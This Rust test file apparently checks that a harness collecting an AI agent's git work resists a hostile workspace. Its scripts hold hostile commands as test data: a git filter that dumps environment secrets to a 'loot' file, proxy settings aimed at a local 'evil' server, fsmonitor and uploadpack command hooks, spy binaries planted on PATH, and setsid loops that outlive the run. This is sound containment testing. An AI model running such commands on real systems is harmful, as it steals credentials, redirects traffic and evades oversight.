//! Repositories, objects, files and links that are not what they should be.

use std::fs;
use std::time::Duration;

use super::{BRANCH, Scene, harmless_although_git_waits};
use crate::support::{Forge, quoted, setting, with_enough_time, written};

#[test]
fn objects_from_elsewhere_are_not_taken() {
    let scene = Scene::new();
    let work = scene.harmless(
        r#"git init -q --bare "$AT/else"; GIT_DIR="$AT/else" git hash-object -w --stdin < /etc/hostname
         echo "$AT/else/objects" > .git/objects/info/alternates; git add DONE; git commit -qm mine"#,
    );
    // The repository is not what it was, so its commits do not count; the content does.
    assert_eq!(work["files_changed"], 2);
    assert_eq!(
        scene
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "1"
    );
}

#[test]
fn objects_behind_links_and_fifos_are_not_taken() {
    for mischief in [
        r#"mv .git/objects/pack "$AT/pack"; ln -s "$AT/pack" .git/objects/pack"#,
        r#"mv .git/objects "$AT/objects"; ln -s "$AT/objects" .git/objects"#,
        "mkfifo .git/objects/pack/pack-0000000000000000000000000000000000000000.idx",
        "rm -rf .git/objects/pack/*",
    ] {
        Scene::new().harmless(mischief);
    }
}

#[test]
fn a_repository_that_is_a_link_is_not_followed() {
    Scene::new().harmless(
        r#"mv .git "$AT/moved"; ln -s "$AT/moved" .git; git config core.fsmonitor "$RUN""#,
    );
}

#[test]
fn a_repository_that_is_a_file_is_not_followed() {
    Scene::new().harmless(
        r#"mv .git "$AT/moved"; echo "gitdir: $AT/moved" > .git; git config core.fsmonitor "$RUN"; git config core.worktree /"#,
    );
}

#[test]
fn a_submodule_that_is_looked_into_learns_nothing_and_poisons_nothing() {
    let scene = Scene::new();
    let evil = Forge::start(&scene.origin.path(""), None);
    // git looks for changes in submodules, and runs their filters while it does.
    let event = scene.play(&format!(
        "cat > \"$AT/poison\" <<'END'
#!/bin/sh
at=${{0%/*}}
touch \"$at/poisoned\"
for made in \"$at\"/tmp/descartes-*; do
    printf '[http]\\n\\tproxy = {}\\n' >> \"$made/config\"
done
tr '\\0' '\\n' < /proc/self/environ >> \"$at/loot\"
exec cat
END
         chmod +x \"$AT/poison\"
         git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
         cd ..; git add sub; git commit -qm linked; cd sub
         git config filter.spy.clean {}; echo '* filter=spy' > .gitattributes; echo b > a; cd ..",
        evil.base(),
        quoted(quoted(scene.origin.path("poison")))
    ));
    assert_eq!(event["status"], "completed", "{event}");
    assert!(
        scene.origin.path("poisoned").exists(),
        "the filter did not run, so this shows nothing"
    );
    assert_eq!(evil.journal(), []);
    assert_eq!(scene.origin.show(BRANCH, "DONE"), "done");
    let linked = scene.origin.git(&["ls-tree", BRANCH, "sub"]);
    assert!(linked.starts_with("160000 commit"), "{linked}");
}

#[test]
fn the_agents_index_and_head_are_nothing_to_wait_for() {
    for mischief in [
        "truncate -s 2G .git/index",
        "rm .git/index; mkfifo .git/index",
        "rm .git/HEAD; mkfifo .git/HEAD",
        "rm .git/config; mkfifo .git/config; rm -f .git/packed-refs; mkfifo .git/packed-refs",
        "rm .git/HEAD; ln -s /dev/zero .git/HEAD",
        "echo 'ref: refs/heads/../../../loot' > .git/HEAD",
        "git update-index --assume-unchanged README; git update-index --skip-worktree src/main",
    ] {
        harmless_although_git_waits(mischief);
    }
}

#[test]
fn a_pipe_that_the_agents_git_waits_for_ends_the_run_and_loses_no_commit() {
    for pipe in [".gitattributes", "src/.gitignore"] {
        let mischief = format!("git add DONE; git commit -qm mine; rm -f {pipe}; mkfifo {pipe}");
        // On a busy machine another git may be silent for as long.
        with_enough_time(Duration::from_secs(5), |limit| {
            let scene = Scene::new();
            let event = scene.play_within(&setting(limit), &mischief);
            let words = format!("made no progress for {}", written(limit));
            let detail = event["failure"]["detail"].as_str().unwrap_or_default();
            let branches = scene
                .origin
                .git(&["branch", "--list", &format!("{BRANCH}-wip")]);
            if event["failure"]["reason"] != "push_failed" || branches.is_empty() {
                return Err(format!("the commit was not pushed: {event:#}"));
            }
            assert!(detail.contains(&words), "{detail}");
            assert_eq!(scene.origin.show(&format!("{BRANCH}-wip"), "DONE"), "done");
            Ok(())
        });
    }
}

#[test]
fn file_names_of_any_kind_arrive() {
    let scene = Scene::new();
    scene.harmless(
        "touch ./--all ./-f './--upload-pack=x' \"$(printf 'new\\nline')\" \"$(printf 'es\\033[31mcape')\" \\
         \"$(printf 'latin\\351')\" ':(top)magic' '*' ' ' 'a\"b' \"a'b\" 'a\\b'",
    );
    let files = scene
        .origin
        .git(&["ls-tree", "-r", "--name-only", "-z", BRANCH]);
    assert_eq!(files.split_terminator('\0').count(), 4 + 12, "{files:?}");
}

#[test]
fn a_workspace_that_became_a_link_is_neither_read_nor_written() {
    for target in ["/", "$AT/other"] {
        let scene = Scene::new();
        let event = scene.play(&format!(
            r#"mkdir -p "$AT/other"; cp -r .scud "$AT/other"; mv "$PWD" "$AT/away"; ln -s "{target}" "$AT/workspace""#
        ));
        assert_eq!(event["failure"]["reason"], "push_failed", "{event}");
        let message = event["failure"]["message"].as_str().unwrap();
        assert!(
            message.ends_with("is gone, or something else stands in its place"),
            "{message}"
        );
        assert_eq!(scene.origin.branches(), ["main"]);
        let graph = fs::read_to_string(scene.origin.path("other/.scud/tasks/tasks.scg")).unwrap();
        assert!(graph.contains("house | P |"), "{graph}");
    }
}

#[test]
fn links_out_of_the_project_stay_links() {
    let scene = Scene::new();
    scene.harmless(
        r#"mkdir "$AT/out"; echo outside > "$AT/out/file"; ln -s "$AT/out" dir; ln -s /etc/passwd passwd
         rm -r src; ln -s "$AT/out" src"#,
    );
    for (link, target) in [
        ("passwd", "/etc/passwd"),
        ("src", scene.origin.path("out").to_str().unwrap()),
    ] {
        assert_eq!(scene.origin.show(BRANCH, link), target);
        assert!(
            scene
                .origin
                .git(&["ls-tree", BRANCH, link])
                .starts_with("120000")
        );
    }

    let scene = Scene::new();
    let event = scene.play(r#"mv .scud "$AT/scud"; ln -s "$AT/scud" .scud"#);
    assert_eq!(event["status"], "completed");
    let graph = fs::read_to_string(scene.origin.path("scud/tasks/tasks.scg")).unwrap();
    assert!(graph.contains("house | P |"), "{graph}");
}

#[test]
fn programs_that_are_planted_on_the_path_do_not_run() {
    Scene::new().harmless(
        "for name in git ssh sh git-remote-http git-remote-https git-push git-pack-objects git-credential echo printf; do
         cp \"$SPY\" \"$AT/bin/$name\"; done",
    );
}

#[test]
fn objects_that_are_missing_are_not_fetched_by_the_agents_means() {
    Scene::new().harmless(
        "git config core.repositoryformatversion 1; git config extensions.partialClone evil
         git config remote.evil.promisor true; git config remote.evil.url \"file://$AT/project.git\"
         git config remote.evil.uploadpack \"$RUN\"; rm -rf .git/objects/pack/*",
    );
}

#[test]
fn replaced_and_grafted_history_is_not_believed() {
    let scene = Scene::new();
    let work = scene.harmless(
        "git add DONE; git commit -qm mine; other=$(git commit-tree -m other HEAD^{tree}); git replace HEAD $other
         mkdir -p .git/info; echo \"$other\" > .git/info/grafts; git commit-graph write --reachable; true",
    );
    assert_eq!(
        scene
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "2"
    );
    assert_eq!(work["files_changed"], 2);
}

#[test]
fn what_stays_behind_cannot_poison_what_is_made_later() {
    let scene = Scene::new();
    let evil = Forge::start(&scene.origin.path(""), None);
    scene.harmless(&format!(
        "cat > \"$AT/poison\" <<'END'
         trap '' TERM HUP; while :; do for made in \"$TMPDIR\"/descartes-*/config; do
         [ -e \"$made\" ] && printf '[http]\\n\\tproxy = {}\\n' >> \"$made\"; done; done\nEND
         setsid sh \"$AT/poison\" > /dev/null 2>&1 & (setsid setsid sh \"$AT/poison\" > /dev/null 2>&1 &) &",
        evil.base()
    ));
    assert_eq!(evil.journal(), []);
}
